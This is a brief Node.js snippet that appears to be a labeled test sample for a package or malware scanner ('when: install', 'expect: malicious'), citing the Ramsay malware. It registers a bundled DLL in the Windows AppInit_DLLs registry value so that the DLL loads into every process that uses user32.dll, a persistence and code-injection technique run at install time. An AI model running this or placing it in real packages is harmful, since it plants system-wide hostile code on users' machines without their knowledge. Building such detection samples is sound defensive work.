// when: install
// expect: malicious
// Every process that loads user32.dll loads the DLLs of AppInit_DLLs (Ramsay, 2020).
const { execFileSync } = require('child_process');
const path = require('path');
execFileSync('reg.exe', ['add', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows', '/v', 'AppInit_DLLs',
  '/t', 'REG_SZ', '/d', path.join(__dirname, 'dpiaware.dll'), '/f']);
